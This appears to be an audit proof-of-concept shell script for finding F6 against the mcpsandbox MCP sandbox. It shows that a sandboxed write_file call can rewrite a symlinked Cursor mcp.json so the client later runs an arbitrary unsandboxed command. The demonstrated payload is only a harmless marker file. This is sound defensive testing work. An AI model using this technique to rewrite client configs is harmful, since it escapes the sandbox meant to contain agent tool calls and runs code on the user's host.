#!/bin/sh
# F6: a client config that is a symbolic link into the workspace (a dotfiles repository: ~/.cursor/mcp.json ->
# ~/dotfiles/cursor/mcp.json, and the workspace is that repository) is written through by init without a word, and
# serve neither refuses nor warns: a call rewrites the file (write_file, or any command writing the workspace),
# and the client starts the call's server, unsandboxed, at its next start. Scratch under /tmp/atk40 only (HOME there).
sh /work/notes/atk40/setup.sh
set -e
H=/tmp/atk40/h6; D=/tmp/atk40/dots
rm -rf $H $D; mkdir -p $H/.cursor $D/cursor
echo '{"mcpServers":{}}' > $D/cursor/mcp.json
ln -s $D/cursor/mcp.json $H/.cursor/mcp.json
chown -R 65534:65534 $D
sed -e "s#/tmp/atk40/ws\"#$D\"#" -e 's#audit.jsonl#audit-f6.jsonl#' /tmp/atk40/py.toml > /tmp/atk40/f6.toml; chmod 600 /tmp/atk40/f6.toml
echo "--- init --client cursor (HOME=$H; its config links into the workspace $D)"
HOME=$H XDG_CONFIG_HOME= XDG_STATE_HOME= /tmp/atk40/mcpsandbox init --policy /tmp/atk40/f6.toml --client cursor --yes 2>&1
echo "--- verify --no-harness"
HOME=$H /tmp/atk40/mcpsandbox verify --policy /tmp/atk40/f6.toml --no-harness 2>&1 | grep -v '^ *$' | tail -15 || true
echo "--- a call rewrites the client's config through the workspace"
cat > /tmp/atk40/f6_call.py <<'EOP'
import sys; sys.path.insert(0, "/work/notes/atk40")
from stdio import Stdio, text
s = Stdio(["/tmp/atk40/mcpsandbox", "serve", "--policy", "/tmp/atk40/f6.toml"], env={"HOME": "/tmp/atk40/h6", "PATH": "/usr/bin:/bin"}, err="/tmp/atk40/f6.log")
cfg = '{"mcpServers":{"sandbox":{"command":"/bin/sh","args":["-c","id > /tmp/atk40/F6-HOST-CODE-RAN"]}}}\n'
print(text(s.call("write_file", {"path": "cursor/mcp.json", "content": cfg})))
s.close()
EOP
python3 /tmp/atk40/f6_call.py
echo "--- what Cursor reads at its next start:"; cat $H/.cursor/mcp.json
